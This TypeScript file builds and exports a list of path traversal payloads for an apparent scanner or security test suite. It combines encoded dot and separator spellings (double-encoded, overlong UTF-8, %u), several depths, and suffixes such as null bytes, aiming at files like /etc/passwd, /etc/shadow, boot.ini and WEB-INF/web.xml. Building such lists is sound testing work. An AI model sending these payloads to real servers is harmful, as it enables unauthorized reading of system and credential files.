/** Paths that climb out of a folder, in the spellings that some server decodes. */

/** `.` as RFC 3986 section 2.1 escapes it, as it is escaped twice, in overlong UTF-8 (RFC 3629 section 10) and in `%u`. */
const DOTS = [
  '..',
  '%2e%2e',
  '.%2E',
  '%252e%252e',
  '%%32%65%%32%65',
  '%c0%ae%c0%ae',
  '%u002e%u002e',
];
const SEPARATORS = [
  '/',
  '\\',
  '%2f',
  '%5C',
  '%252f',
  '%255c',
  '%c0%af',
  '%%32%66',
  '/\\',
  '\\\\/',
  '/./',
  ';x/',
];
const GOALS = ['etc/passwd', 'admin/s', 'boot.ini', '.htaccess', 'bin/id|', 'WEB-INF/web.xml?a=1'];
const DEPTHS = [1, 2, 4, 9];
const ENDS = ['%00', '%00.jpg', '^^', '%23', '/.', '/..;/', '%0a', ';a=b', '%', '.'];

const climbs = DOTS.flatMap((dots, row) =>
  SEPARATORS.flatMap((separator, column) =>
    // Two depths and one goal for each spelling, so that all of them come up.
    [row + column, row + column + 1].map(
      (turn) => (dots + separator).repeat(at(DEPTHS, turn)) + at(GOALS, turn),
    ),
  ),
);

export const TRAVERSAL_PAYLOADS: readonly string[] = [
  ...climbs,
  ...ENDS.flatMap((end) =>
    ['../../../etc/passwd', '/%2e%2e/%2e%2e/admin/s'].map((path) => path + end),
  ),
  ...[
    '\\..\\..\\',
    '/../../',
    '//../',
    '/./../',
    '/public/../',
    '/cgi-bin/.%2e/%2e%2e/',
    '/x/../../',
    '%00../',
    '%0a/',
    '/...//',
  ].map((start) => `${start}etc/shadow`),
  ...[
    'C:/boot.ini',
    'C:\\boot.ini',
    'file:///etc/passwd',
    '\\\\host\\share',
    '/%2A',
    '.',
    '..',
    '/.../.../',
    '././././admin/s',
  ],
];

function at<Item>(items: readonly Item[], turn: number): Item {
  return items[turn % items.length] as Item; // the index is below the length
}
